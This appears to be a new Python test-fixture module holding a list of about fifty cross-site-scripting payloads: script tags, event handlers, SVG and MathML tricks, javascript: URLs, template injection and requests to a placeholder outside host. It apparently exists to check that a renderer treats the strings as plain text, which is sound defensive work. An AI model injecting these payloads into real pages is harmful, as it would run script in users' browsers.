@@ -1,0 +1,61 @@
+"""Texts that would do something if a page took them for anything but text.
+
+Each sets ``window.pwned``, opens a dialog, or asks another host for something.
+"""
+
+from __future__ import annotations
+
+AWAY = "https://elsewhere.invalid"
+
+HOSTILE = (
+    "<script>window.pwned=1</script>",
+    "<ScRiPt>window.pwned=1</sCrIpT>",
+    f"<script src={AWAY}/x.js></script>",
+    "</script><script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<img src=x onerror='alert(1)'>",
+    f"<img src='{AWAY}/p.png'>",
+    '"><img src=x onerror=window.pwned=1>',
+    "'><svg onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:window.pwned=1'><text y=20>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
+    "<iframe src='javascript:parent.pwned=1'></iframe>",
+    f"<iframe src='{AWAY}'></iframe>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<object data='javascript:window.pwned=1'></object>",
+    f"<embed src='{AWAY}/x.swf'>",
+    "<body onload=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>x</details>",
+    "<video><source onerror=window.pwned=1></video>",
+    f"<audio src='{AWAY}/a.mp3' autoplay>",
+    "<marquee onstart=window.pwned=1>x</marquee>",
+    "<a href='javascript:window.pwned=1'>click</a>",
+    "[click](javascript:window.pwned=1)",
+    f"![p]({AWAY}/p.png)",
+    f"<link rel=stylesheet href='{AWAY}/s.css'>",
+    f"<style>@import '{AWAY}/s.css';</style>",
+    f"<style>body{{background:url({AWAY}/b.png)}}</style>",
+    f"<base href='{AWAY}/'>",
+    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
+    f"<form action='{AWAY}'><button>send</button></form>",
+    "<template><script>window.pwned=1</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
+    "<!--><script>window.pwned=1</script-->",
+    "<![CDATA[<script>window.pwned=1</script>]]>",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "${window.pwned=1}",
+    "javascript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
+    "'; window.pwned=1; //",
+    '" onmouseover="window.pwned=1" x="',
+    "__proto__",
+    "\u202eevil<script>window.pwned=1</script>\u202c",
+    "<\u200bscript>window.pwned=1</script>",
+    "＜script＞window.pwned=1＜/script＞",
+    "<p style='position:fixed;inset:0;background:red'>x</p>",
+)
